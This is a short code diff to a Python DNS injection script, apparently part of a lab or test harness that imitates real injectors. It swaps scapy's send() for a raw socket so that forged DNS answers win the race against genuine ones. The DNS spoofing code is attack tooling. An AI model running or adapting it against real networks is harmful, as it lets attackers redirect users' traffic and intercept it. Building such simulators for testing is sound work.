@@ -5,9 +5,10 @@
 # queue holds for a realistic RTT). Like real injectors it does not drop the
 # query, so the client receives both answers: the forged one first.
 import argparse
+import socket
 import sys
 
-from scapy.all import IP, UDP, conf, send, sniff
+from scapy.all import IP, UDP, conf, sniff
 from scapy.layers.dns import DNS, DNSQR, DNSRR
 
 FORGED_TTL = 60     # DNS record TTL of the forged answer
@@ -40,6 +41,10 @@ def main():
     a = p.parse_args()
     names = {n.rstrip(".").lower() for n in a.names}
     conf.verb = 0
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # opened once: speed wins races
+
+    def inject(packet):
+        raw.sendto(bytes(forged_answer(packet, a.answer)), (packet[IP].src, 0))
 
     def started():
         if a.ready_file:
@@ -47,7 +52,7 @@ def main():
 
     sniff(iface=a.iface, store=False, filter=None,
           lfilter=lambda pkt: is_query_for(pkt, names),
-          prn=lambda pkt: send(forged_answer(pkt, a.answer), verbose=False),
+          prn=inject,
           started_callback=started)
     return 0
 
